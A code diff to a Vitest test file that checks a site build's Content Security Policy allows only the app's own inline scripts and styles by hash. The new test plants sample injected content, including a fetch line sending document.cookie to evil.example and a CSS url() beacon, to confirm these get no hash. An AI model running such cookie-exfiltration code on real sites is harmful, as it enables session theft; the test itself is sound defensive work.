@@ -9,9 +9,12 @@ import { afterEach, describe, expect, test, vi } from "vitest";
 import { attributeValue } from "../../scripts/html-text";
 import { linkResumePdf } from "../../scripts/pdf";
 import {
+  ACCORDION_PANEL_STYLE,
   allowInlineCode,
+  appStyleAttributes,
   fitsTwoRoundTrips,
   injectMarkup,
+  inlineCodeOf,
   inlineLeadPreviews,
   inlineStylesheets,
   loadAppFromBeforePaint,
@@ -48,6 +51,16 @@ function prerenderedBody(): string {
 const textOf = (html: string) => new DOMParser().parseFromString(html, "text/html").body.textContent ?? "";
 
 describe("the prerendered page", () => {
+  test("holds no style attribute but those the CSP allows the app by construction", () => {
+    const { app, sheets, page } = renderPage();
+    const attributes = [...`${app}${sheets}`.matchAll(/\sstyle="([^"]*)"/g)].map(([, value]) =>
+      attributeValue(value ?? ""),
+    );
+    expect(attributes.length).toBeGreaterThan(0);
+    const allowed = new Set(appStyleAttributes(page));
+    expect(attributes.filter((value) => !allowed.has(value))).toEqual([]);
+  });
+
   test("holds every screen: the resume, the projects, the About page and Not Found", () => {
     const { app } = renderPage();
     const page = new DOMParser().parseFromString(app, "text/html");
@@ -348,19 +361,47 @@ run();
     expect(fitsTwoRoundTrips("<p>the same paragraph</p>".repeat(20_000))).toBe(true);
   });
 
-  test("allows exactly the inline code the page holds, by hash", () => {
-    const html = allowInlineCode(
-      `${page.replace("</head>", '<style>a{color:red}</style><script type="application/ld+json">{}</script></head>')}<div style="--x:1"></div><div style="--x:1"></div>`,
+  test("allows the inline code the build writes, by hash, and nothing else the page holds", () => {
+    // The app's markup as it would be if content escaped sanitising: a script, a style element
+    // and a style attribute beside the ones the app renders itself.
+    const injected = {
+      script: "fetch('https://evil.example/'+document.cookie)",
+      style: "body{display:none}",
+      attribute: "background:url(https://evil.example/)",
+    };
+    const layout = { side: ["profile"], main: ["experience"], phone: ["profile", "experience"] };
+    // index.html as Vite and the plugins emit it: the before-paint script, the accent, JSON-LD.
+    const template = page.replace(
+      "</head>",
+      '<style id="accent">:root{--accent:#0f766e}</style><script type="application/ld+json">{}</script></head>',
     );
+    const assembled = injectMarkup(template, {
+      app: `<main><div style="--phone-order:0"><p>Hi</p><script>${injected.script}</script><style>${injected.style}</style></div><div style="--phone-order:1"><p style="${injected.attribute}">x</p><div style="${ACCORDION_PANEL_STYLE}"></div></div></main>`,
+      sheets: "",
+      page: { ...pageData, layout },
+    });
+    const stylesheets: string[] = [];
+    const inlined = inlineStylesheets(
+      assembled,
+      { "assets/index-abc.css": asset("assets/index-abc.css", "a{color:red}\n") },
+      stylesheets,
+    );
+    const own = inlineCodeOf(template);
+    const html = allowInlineCode(inlined, {
+      scripts: own.scripts,
+      styles: [...own.styles, ...stylesheets],
+      styleAttributes: appStyleAttributes({ ...pageData, layout }),
+    });
     const policy = /content="([^"]*)"/.exec(html)?.[1] ?? "";
     expect(policy).toContain(`script-src 'self' ${sha256("\nrun();\n")};`);
+    expect(policy).toContain(
+      `style-src 'self' 'unsafe-hashes' ${sha256("a{color:red}")} ${sha256(":root{--accent:#0f766e}")} ${sha256("--phone-order:0")} ${sha256("--phone-order:1")} ${sha256(ACCORDION_PANEL_STYLE)};`,
+    );
+    for (const code of Object.values(injected)) expect(policy).not.toContain(sha256(code));
     // The JSON-LD is data, not code: the policy needs no hash for it.
     expect(policy).not.toContain(sha256("{}"));
-    expect(policy).toContain(
-      `style-src 'self' 'unsafe-hashes' ${sha256("a{color:red}")} ${sha256("--x:1")};`,
-    );
     // Nothing inline, nothing allowed.
     const bare = page.replace(/<script id="before-paint">[\s\S]*?<\/script>/, "");
-    expect(allowInlineCode(bare)).toBe(bare);
+    expect(allowInlineCode(bare, { scripts: ["\nrun();\n"], styles: [], styleAttributes: [] })).toBe(bare);
   });
 });
